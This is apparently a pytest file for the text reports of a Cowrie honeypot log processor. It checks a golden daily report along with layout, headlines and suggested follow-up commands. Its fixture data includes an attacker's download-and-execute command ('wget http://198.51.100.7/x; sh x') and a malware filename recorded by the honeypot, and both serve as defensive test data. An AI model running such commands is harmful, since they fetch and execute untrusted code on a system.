"""Reports as text."""

from __future__ import annotations

import re

import pytest
from sqlalchemy import Connection, Engine

from cowrieprocessor.db.engine import read_transaction, write_transaction
from cowrieprocessor.loader.rows.file_mentions import URL
from cowrieprocessor.reporting.periods import PeriodKind, period_of
from cowrieprocessor.reporting.render.terminal import Screen, size_text
from cowrieprocessor.reporting.render.text import next_commands, report_text
from cowrieprocessor.reporting.reports import Report, make_report
from cowrieprocessor.sanitize import shell_word
from tests.unit.reporting.scene import DAY, add_dead_letter, add_file, add_hash, add_mention, add_session, at, sha

GOLDEN = """\
Cowrie report: Saturday 21 November 2026 (UTC)
────────────────────────────────────────────────────────────────────────────────────────────────────
3 sessions from 2 addresses, 2 of them let in. 2 sessions dropped 3 different files: 1 malicious, 2
never seen before.

                   this day  day before  change
───────────────────────────────────────────────
sessions                  3           2   +50 %
source addresses          2           1  +100 %
sessions let in           2           2    same
login attempts            6           4   +50 %
commands                  5           0     new
different files           3           0     new
never seen before         2           0     new
malicious                 1           0     new
downloads                 3           0     new
uploads                   1           0     new

What was dropped
SHA-256       name                         type          size  sessions  verdict          first seen
────────────────────────────────────────────────────────────────────────────────────────────────────
000002000000  /tmp/.x/redtail.x86_64       executable  1.5 MB         1  malicious 58/72  new
000001000000  /root/.ssh/authorized_keys   text         389 B         2  clean            2026-10-12
000003000000                                                          1  not-asked        new

URLs of downloads
sessions  files  URL
────────────────────────────────────────────────────────────────────────────────────────────────────
       1      1  fxp://***@198[.]51[.]100[.]7/redtail.x86_64

Where from                                        User names
sessions  events  address                         sessions  logins tried  name
──────────────────────────────────────────────    ──────────────────────────────────────────────────
       2      20  203.0.113.5                            2             4  root
       1      10  2001:db8::7                            1             2  [admin]

What they typed
sessions  times  command
────────────────────────────────────────────────────────────────────────────────────────────────────
       2      4  uname -a
       1      1  wget hxxp://198[.]51[.]100[.]7/x; sh x

Sensors                                           Protocols
sessions  events  sensor                          sessions  events  protocol
──────────────────────────────────────────────    ──────────────────────────────────────────────────
       2      20  lab                                    2      20  ssh
       1      10  office                                 1      10  telnet

Not understood
2 dead letters of any date: not JSON 2

Next
  cowrieprocessor files show --db my.sqlite 000002000000
  cowrieprocessor sessions list --db my.sqlite --since 2026-11-21 --until 2026-11-22 --with-files
  cowrieprocessor dead-letters list --db my.sqlite
  cowrieprocessor report daily --db my.sqlite --date 2026-11-20
"""


def _fill(connection: Connection) -> None:
    add_session(connection, "a", at(1), commands={"uname -a": 3})
    add_session(connection, "b", at(2), commands={"uname -a": 1, "wget http://198.51.100.7/x; sh x": 1})
    add_session(
        connection,
        "c",
        at(3),
        sensor="office",
        src_ip="2001:db8::7",
        username="[admin]",
        login_success=False,
        protocol="telnet",
    )
    add_session(connection, "d", at(1, days=-1))
    add_session(connection, "e", at(2, days=-1))
    add_hash(connection, sha(1), at(0, days=-40), at(2), size_bytes=389, mime_type="text/plain", verdict="clean")
    add_hash(
        connection,
        sha(2),
        at(2),
        size_bytes=1_500_000,
        mime_type="application/x-executable",
        verdict="malicious",
        vt_positives=58,
        vt_total=72,
        enrichment_status="enriched",
    )
    add_hash(connection, sha(3), at(2))
    for name in ("a", "b"):
        add_file(connection, name, sha(1), at(2), filename="/root/.ssh/authorized_keys")
    add_file(
        connection,
        "b",
        sha(2),
        at(2),
        filename="/tmp/.x/redtail.x86_64",
        download_url="ftp://u:secret@198.51.100.7/redtail.x86_64",
    )
    add_file(connection, "b", sha(3), at(2), origin="upload")
    for _ in range(2):
        add_dead_letter(connection, "not JSON", {"malformed": "{"})


NOW = at(12, days=9)


def _report(engine: Engine, kind: PeriodKind = PeriodKind.DAILY, *, days: int = 0) -> Report:
    with read_transaction(engine) as connection:
        return make_report(connection, period_of(kind, at(0, days=days)), now=NOW)


def test_report_reads_like_this(engine: Engine) -> None:
    """The whole report, on 100 columns without colour, is this text on both databases."""
    with write_transaction(engine) as connection:
        _fill(connection)
    assert report_text(_report(engine), Screen(), db_option=" --db my.sqlite") == GOLDEN


@pytest.mark.parametrize("width", [20, 40, 60, 80, 89, 90, 100, 150, 240])
def test_report_fits_any_width(engine: Engine, width: int) -> None:
    """No line above the commands is wider than the screen; a narrow one keeps every number, a wide one whole hashes."""
    with write_transaction(engine) as connection:
        _fill(connection)
    text = report_text(_report(engine), Screen(width))
    assert max(len(line) for line in text.partition("\nNext\n")[0].splitlines()) <= max(width, 40)
    assert (sha(2) in text) == (width >= 150)
    assert "58/72" in text or width < 60
    assert sha(2)[:12] in text


def test_colour_is_only_colour(engine: Engine) -> None:
    """On a terminal the only escape sequences are colours, and without them the text is the same."""
    with write_transaction(engine) as connection:
        _fill(connection)
    colored = report_text(_report(engine), Screen(100, color=True), db_option=" --db my.sqlite")
    plain = re.sub(r"\x1b\[[0-9;]*m", "", colored)
    assert "\x1b" not in plain
    assert "\x1b[1m" in colored
    assert GOLDEN.splitlines() == [line.rstrip() for line in plain.splitlines()]


@pytest.mark.parametrize("screen", [Screen(), Screen(40), Screen(100, color=True)])
def test_next_commands_are_one_line_each(engine: Engine, screen: Screen) -> None:
    """A command longer than the width of the screen is not wrapped, so that it can be copied."""
    path = "/srv/" + "very-long-folder/" * 12 + "honey pots.sqlite"
    with write_transaction(engine) as connection:
        _fill(connection)
    report, option = _report(engine), f" --db {shell_word(path)}"
    printed = re.sub(r"\x1b\[[0-9;]*m", "", report_text(report, screen, db_option=option))
    assert [f"  {line}" for line in next_commands(report, option)] == printed.partition("\nNext\n")[2].splitlines()
    assert all(f"--db '{path}'" in line for line in next_commands(report, option))


def test_an_empty_day_says_so(engine: Engine) -> None:
    """A day without sessions and files says so in one sentence, and offers no day that is empty, too."""
    text = report_text(_report(engine), Screen())
    assert "Nothing happened: no session began and no file was seen (2026-11-21, UTC)." in text
    assert "Next" not in text
    assert "What was dropped" not in text


def test_a_day_before_is_offered_only_if_something_happened(engine: Engine) -> None:
    """The command for the day before stands there exactly if that day had sessions or files."""
    with write_transaction(engine) as connection:
        add_session(connection, "before", at(1, days=-1))
        add_session(connection, "now", at(1))

    assert [
        [command for command in next_commands(_report(engine, days=day), "") if "report" in command]
        for day in (0, -1, 1)
    ] == [
        ["cowrieprocessor report daily --date 2026-11-20"],
        [],
        ["cowrieprocessor report daily --date 2026-11-21"],
    ]


@pytest.mark.parametrize(
    ("kind", "title", "column"),
    [
        (PeriodKind.WEEKLY, "week 47 of 2026, 16 November 2026 to 22 November 2026 (UTC)", "week before"),
        (PeriodKind.MONTHLY, "November 2026 (UTC)", "month before"),
    ],
)
def test_weeks_and_months_are_named(engine: Engine, kind: PeriodKind, title: str, column: str) -> None:
    """A weekly or monthly report names its week or month, and compares it with the previous one."""
    with write_transaction(engine) as connection:
        _fill(connection)
        add_session(connection, "w", at(0, days=-30))
        add_session(connection, "x", at(0, days=-6))
    text = report_text(_report(engine, kind), Screen())
    assert title in text
    assert column in text


@pytest.mark.parametrize(
    ("files", "sessions", "expected"),
    [
        ([], 1, "1 session from 1 address, 1 of them let in. No file was dropped."),
        ([("s0", 1, "download", 5)], 1, "1 session dropped 1 file: not seen before."),
        ([("s0", 1, "download", -99)], 1, "1 session dropped 1 file, seen before."),
        (
            [("artifact:lab", 1, "artifact", 5)],
            0,
            "No session began. 1 captured file that no log names: not seen before.",
        ),
    ],
)
def test_headline_fits_what_happened(
    engine: Engine, files: list[tuple[str, int, str, int]], sessions: int, expected: str
) -> None:
    """The headline has a form for no files, new files, known files, and captured files that no log names."""
    with write_transaction(engine) as connection:
        for number in range(sessions):
            add_session(connection, f"s{number}", at(5))
        for session, number, origin, first in files:
            add_hash(connection, sha(number), at(first))
            add_file(connection, session, sha(number), at(5), origin=origin)
    assert expected in " ".join(report_text(_report(engine), Screen()).split())


def test_missing_attributes_are_noted(engine: Engine) -> None:
    """If addresses are unknown, as before a backfill, the report notes the number of sessions."""
    with write_transaction(engine) as connection:
        add_session(connection, "a", at(1), attributes=False)
    assert "Address, user name and protocol of 1 session are not known" in report_text(_report(engine), Screen())


def test_missing_files_are_noted(engine: Engine) -> None:
    """If downloads were counted but no file is recorded, the report does not claim that nothing was dropped."""
    with write_transaction(engine) as connection:
        add_session(connection, "a", at(1), file_downloads=2)
    text = " ".join(report_text(_report(engine), Screen()).split())
    assert "No file is recorded." in text
    assert "In 1 session downloads were counted of which no file is recorded" in text


def test_cut_lists_say_how_many_more(engine: Engine) -> None:
    """A list that is cut is followed by the number of the others."""
    with write_transaction(engine) as connection:
        for number in range(30):
            add_session(connection, f"s{number}", at(1), src_ip=f"10.0.0.{number}")
            add_hash(connection, sha(number), at(1))
            add_file(connection, f"s{number}", sha(number), at(1))
    text = report_text(_report(engine), Screen())
    assert "and 5 more files" in text
    assert "and 20 more" in text


@pytest.mark.parametrize(
    ("size_bytes", "text"),
    [(None, ""), (0, "0 B"), (999, "999 B"), (1000, "1.0 kB"), (999_949, "999.9 kB"), (999_951, "1.0 MB"),
     (5_000_000_000, "5.0 GB"), (5_000_000_000_000, "5,000.0 GB")],
)  # fmt: skip
def test_sizes_have_decimal_units(size_bytes: int | None, text: str) -> None:
    """A size from 1 kB on has one decimal and the largest fitting unit."""
    assert text == size_text(size_bytes)


def _words(report: Report) -> str:
    return " ".join(report_text(report, Screen(240)).split())


def test_a_session_of_the_day_before_is_told_and_offered(engine: Engine) -> None:
    """A file that a session dropped after midnight is told with when the session began, and the session is offered."""
    with write_transaction(engine) as connection:
        add_session(connection, "before", at(23.9, days=-1))
        add_hash(connection, sha(1), at(0.1))
        add_file(connection, "before", sha(1), at(0.1), download_url="http://198.51.100.7/x")
    alone = _report(engine)
    with write_transaction(engine) as connection:
        add_session(connection, "today", at(3))
        add_file(connection, "today", sha(1), at(3))
    both, before = _report(engine), _report(engine, days=-1)
    assert "No session began. 1 session that began earlier dropped 1 file: not seen before." in _words(alone)
    assert "2 sessions, 1 of them begun earlier, dropped 1 file: not seen before." in _words(both)
    assert next_commands(alone, "")[1:] == [
        "cowrieprocessor sessions show before",
        "cowrieprocessor report daily --date 2026-11-20",
    ]
    assert next_commands(both, "")[1:3] == [
        "cowrieprocessor sessions list --since 2026-11-21 --until 2026-11-22 --with-files",
        "cowrieprocessor sessions show before",
    ]
    assert (before.totals.sessions_begun_earlier, before.earlier_session) == (0, None)


def test_a_session_of_the_day_before_that_fetched_nothing_is_offered(engine: Engine) -> None:
    """A download after midnight that brought no file is in the report, and its session is offered."""
    with write_transaction(engine) as connection:
        add_session(connection, "before", at(23.9, days=-1))
        add_session(connection, "other", at(23.8, days=-1), sensor="office")
        for session, hours in (("before", 0.1), ("other", 0.2)):
            add_mention(connection, session, "", URL, "http://198.51.100.7/x", at(hours))
    with read_transaction(engine) as connection:
        found = [
            make_report(connection, period_of(PeriodKind.DAILY, DAY), sensor=sensor, now=NOW).earlier_session
            for sensor in (None, "lab", "office")
        ]
    assert found == ["other", "before", "other"]
    assert "No session began. No file was dropped." in _words(_report(engine))
    assert "cowrieprocessor sessions show other" in next_commands(_report(engine), "")


@pytest.mark.parametrize(
    ("kind", "word"), [(PeriodKind.DAILY, "day"), (PeriodKind.WEEKLY, "week"), (PeriodKind.MONTHLY, "month")]
)
def test_a_period_to_come_says_so(engine: Engine, kind: PeriodKind, word: str) -> None:
    """Of a period that has not begun nothing is said to have happened; the one that contains now is not to come."""
    with write_transaction(engine) as connection:
        add_session(connection, "a", at(1, days=-1))
    future, present = _words(_report(engine, kind, days=400)), _words(_report(engine, kind, days=9))
    name = period_of(kind, at(0, days=400)).name
    assert f"This {word} has not come yet ({name}, UTC)." in future
    assert "Nothing happened" not in future
    assert "has not come" not in present


@pytest.mark.parametrize("days", [-130_000, -2_000, -5, 2, 60])
def test_an_empty_period_offers_the_newest_with_anything(engine: Engine, days: int) -> None:
    """Long ago, between, after and to come: a report on nothing offers the newest period with sessions or files."""
    with write_transaction(engine) as connection:
        add_session(connection, "a", at(1, days=-20))
        add_session(connection, "b", at(1))
    assert next_commands(_report(engine, days=days), " --db x") == [
        "cowrieprocessor report daily --db x --date 2026-11-21"
    ]


def test_letters_of_events_that_are_stored_say_so(engine: Engine) -> None:
    """Letters that version 3 wrote of events it suspected are no events that were not understood: they are stored."""
    with write_transaction(engine) as connection:
        add_session(connection, "a", at(1))
        for _ in range(3):
            add_dead_letter(connection, "quarantined", {"eventid": "x"})
        add_dead_letter(connection, "validation", {"eventid": "x"})
    suspected = " ".join(report_text(_report(engine), Screen()).split())
    with write_transaction(engine) as connection:
        add_dead_letter(connection, "not JSON", {"malformed": "{"})
    both = " ".join(report_text(_report(engine), Screen()).split())
    assert "Suspected by version 3 4 dead letters of any date: quarantined 3, validation 1" in suspected
    assert "Not understood" not in suspected
    assert "Not understood 5 dead letters of any date: quarantined 3, not JSON 1, validation 1" in both
    for text in (suspected, both):
        assert "4 of these are events that version 3 suspected and, as a rule, stored;" in text


def test_the_scene_is_on_a_saturday() -> None:
    """The golden text's day is the scene's."""
    assert f"{DAY:%A}" == "Saturday"


def test_sessions_of_another_day_are_not_offered(engine: Engine) -> None:
    """A day whose files were left by a session of the day before does not offer its own sessions with files."""
    with write_transaction(engine) as connection:
        add_session(connection, "before", at(23, days=-1))
        add_session(connection, "today", at(3))
        add_file(connection, "before", sha(1), at(1))
    with read_transaction(engine) as connection:
        today, before = (make_report(connection, period_of(PeriodKind.DAILY, at(0, days=days))) for days in (0, -1))

    assert today.totals.sessions_with_files == 1
    assert [line for line in next_commands(today, "") if "--with-files" in line] == []
    assert [line for line in next_commands(before, "") if "sessions list" in line] == [
        "cowrieprocessor sessions list --since 2026-11-20 --until 2026-11-21 --with-files"
    ]
